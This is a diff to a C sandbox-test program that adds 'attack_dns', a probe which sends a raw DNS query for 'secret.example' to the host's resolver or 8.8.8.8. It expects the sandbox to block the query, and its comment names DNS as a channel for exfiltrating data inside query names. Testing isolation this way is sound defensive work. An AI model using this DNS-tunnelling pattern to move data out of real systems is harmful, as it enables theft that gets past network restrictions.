@@ -431,6 +431,24 @@ static int attack_tcp6_mapped(const char *port) {
     return expect_fail(connect(s, (struct sockaddr *)&a, sizeof a), "connect(::ffff:127.0.0.1)");
 }
 
+static int attack_dns(void) {
+    // A DNS query (the exfiltration channel: the name carries the data) to the host's
+    // resolver, or 8.8.8.8 when resolv.conf names none.
+    char server[64] = "8.8.8.8", line[256];
+    FILE *f = fopen("/etc/resolv.conf", "r");
+    while (f && fgets(line, sizeof line, f)) {
+        if (sscanf(line, "nameserver %63s", server) == 1 && strchr(server, '.')) break;
+    }
+    if (f) fclose(f);
+    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+    if (s < 0) return verdict("BLOCKED", "errno=%s (socket)", ename(errno));
+    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(53) };
+    if (inet_pton(AF_INET, server, &a.sin_addr) != 1) inet_pton(AF_INET, "8.8.8.8", &a.sin_addr);
+    static const unsigned char query[] = { 0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0,
+        6, 's', 'e', 'c', 'r', 'e', 't', 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 0, 0, 1, 0, 1 };
+    return expect_fail(sendto(s, query, sizeof query, 0, (struct sockaddr *)&a, sizeof a), "sendto(resolver:53)");
+}
+
 static int attack_netlink(void) {
     int s = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
     if (s < 0) return verdict("BLOCKED", "errno=%s (socket)", ename(errno));
@@ -643,6 +661,7 @@ int main(int argc, char **argv) {
     if (!strcmp(a, "raw-socket")) return expect_fail(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP), "socket(AF_INET, SOCK_RAW)");
     if (!strcmp(a, "packet-socket")) return expect_fail(socket(AF_PACKET, SOCK_RAW, htons(0x0003)), "socket(AF_PACKET)");
     if (!strcmp(a, "netlink-route")) return attack_netlink();
+    if (!strcmp(a, "dns")) return attack_dns();
     if (!strcmp(a, "setuid")) return attack_setuid(arg);
     if (!strcmp(a, "ids")) return report_ids();
     if (!strcmp(a, "chown")) return expect_fail(chown(arg, 1234, 1234), "chown(root file)");
